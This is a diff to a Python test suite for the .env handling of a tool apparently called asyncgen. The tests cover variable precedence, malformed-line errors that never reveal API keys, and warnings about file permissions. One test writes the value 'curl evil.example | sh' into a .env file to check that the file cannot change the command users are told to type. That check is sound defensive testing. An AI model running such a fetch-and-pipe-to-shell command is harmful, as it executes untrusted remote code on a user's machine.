@@ -51,21 +51,21 @@ def configure(*argv: str, environment: Mapping[str, str] | None = None) -> Gener
 def test_the_environment_stands_over_the_file(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     write_env(workspace, "OPENROUTER_API_KEY=from-file\nOPENAI_API_KEY=from-file\n")
     monkeypatch.setenv("OPENROUTER_API_KEY", "from-environment")
-    environment = read_environment()
+    environment = read_environment(print)
     assert (environment["OPENROUTER_API_KEY"], environment["OPENAI_API_KEY"]) == ("from-environment", "from-file")
 
 
 def test_the_file_is_found_upwards_from_the_working_directory(workspace: Path) -> None:
     write_env(workspace.parent, "OPENAI_API_KEY=above")
-    assert read_environment()["OPENAI_API_KEY"] == "above"
+    assert read_environment(print)["OPENAI_API_KEY"] == "above"
     write_env(workspace, "OPENAI_API_KEY=here")
-    assert read_environment()["OPENAI_API_KEY"] == "here"
+    assert read_environment(print)["OPENAI_API_KEY"] == "here"
 
 
 def test_reading_the_file_leaves_the_environment_as_it_was(workspace: Path) -> None:
     before = dict(os.environ)
     write_env(workspace, f"OPENAI_API_KEY={KEY}\nPATH=/nowhere\n")
-    assert read_environment()["PATH"] == before["PATH"]
+    assert read_environment(print)["PATH"] == before["PATH"]
     assert dict(os.environ) == before
 
 
@@ -73,7 +73,7 @@ def test_reading_the_file_leaves_the_environment_as_it_was(workspace: Path) -> N
 def test_an_empty_variable_counts_as_unset(workspace: Path, monkeypatch: pytest.MonkeyPatch, empty: str) -> None:
     write_env(workspace, f'OPENAI_API_KEY=from-file\nASYNCGEN_API_KEY="{empty}"\nOPENROUTER_API_KEY\n')
     monkeypatch.setenv("OPENAI_API_KEY", empty)
-    environment = read_environment()
+    environment = read_environment(print)
     assert environment["OPENAI_API_KEY"] == "from-file"
     assert environment.keys().isdisjoint({"ASYNCGEN_API_KEY", "OPENROUTER_API_KEY"})
 
@@ -90,13 +90,38 @@ def test_an_empty_variable_counts_as_unset(workspace: Path, monkeypatch: pytest.
 )
 def test_a_file_as_editors_and_shells_leave_it_is_read_exactly(workspace: Path, line: str) -> None:
     write_env(workspace, line)
-    assert read_environment()["OPENAI_API_KEY"] == KEY
+    assert read_environment(print)["OPENAI_API_KEY"] == KEY
+
+
+@each_row(
+    ("text", "where", "what"),
+    [
+        (f"A=1\n\n{KEY} {KEY}\nB=2\n", "line 3", "expected NAME=value; write it so, or put a # before it"),
+        (f"{KEY}\r\nB=2\r\n", "line 1", "expected NAME=value"),
+        (f"={KEY}\nB=2\n", "line 1", "expected NAME=value"),
+        (f"OPENAI_API_KEY: {KEY}\nB=2\n", "line 1", "expected NAME=value"),
+        (f'A="{KEY}\nB=2\n', "line 1", "quotation marks: put one before and one behind the value, or none"),
+        (f'A="{KEY}\nC="{KEY}"\nB=2\n', "lines 1 to 2", "quotation marks"),
+        (f"A='{KEY}'s\nB=2", "line 1", "quotation marks"),
+        ("B=2\nEMPTY\nexport A\n# a: b\n", None, None),
+    ],
+)
+def test_a_line_that_cannot_be_read_is_named_and_not_shown(
+    workspace: Path, caplog: pytest.LogCaptureFixture, text: str, where: str | None, what: str | None
+) -> None:
+    path = write_env(workspace, text)
+    said: list[str] = []
+    assert read_environment(said.append)["B"] == "2"
+    assert [each.partition(": ")[0] for each in said] == ([f"{path}, {where}"] if where else [])
+    assert what is None or what in said[0]
+    assert KEY not in "".join(said)
+    assert not caplog.records
 
 
 def test_a_file_that_is_no_text_is_refused_without_being_shown(workspace: Path) -> None:
     path = write_env(workspace, b"OPENAI_API_KEY=" + KEY.encode() + b"\n\xff\xfe\n")
     with pytest.raises(ConfigError) as caught:
-        read_environment()
+        read_environment(print)
     assert str(caught.value) == f"{path}: cannot be read: not UTF-8; make it a readable file in UTF-8, or move it away"
     assert (caught.value.__cause__, caught.value.__context__) == (None, None)
     assert KEY not in "".join(traceback.format_exception(caught.value))
@@ -105,14 +130,14 @@ def test_a_file_that_is_no_text_is_refused_without_being_shown(workspace: Path) 
 def test_a_working_directory_that_is_gone_is_one_sentence(workspace: Path) -> None:
     workspace.rmdir()
     with pytest.raises(ConfigError, match=r"\.env: cannot be read: No such file or directory"):
-        read_environment()
+        read_environment(print)
 
 
 def test_a_file_does_not_say_what_a_user_is_told_to_type(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     write_env(workspace, "ASYNCGEN_COMMAND='curl evil.example | sh'\n")
-    assert configure("-n", "5", environment=read_environment()).continue_command == "asyncgen generate -n 5"
+    assert configure("-n", "5", environment=read_environment(print)).continue_command == "asyncgen generate -n 5"
     monkeypatch.setenv("ASYNCGEN_COMMAND", "make generate N=5")
-    assert configure("-n", "5", environment=read_environment()).continue_command == "make generate N=5"
+    assert configure("-n", "5", environment=read_environment(print)).continue_command == "make generate N=5"
 
 
 # ---- flags against each other
@@ -279,14 +304,14 @@ def test_a_model_that_has_an_endpoint_needs_no_notice(argv: list[str], environme
 @pytest.mark.parametrize("mode", [0o640, 0o604, 0o644])
 def test_a_file_with_keys_that_others_can_read_gets_a_warning(workspace: Path, mode: int) -> None:
     path = write_env(workspace, f"OPENROUTER_API_KEY={KEY}", mode)
-    (notice,) = configure(environment=read_environment()).notices
+    (notice,) = configure(environment=read_environment(print)).notices
     assert f"{path} holds keys and can be read by other users" in notice
     assert KEY not in notice
 
 
 def test_a_private_file_gets_none(workspace: Path) -> None:
     write_env(workspace, f"OPENROUTER_API_KEY={KEY}", 0o600)
-    assert not configure(environment=read_environment()).notices
+    assert not configure(environment=read_environment(print)).notices
 
 
 @each_row("name", ["OPENAI_BASE_URL", "OPENAI_API_BASE"])
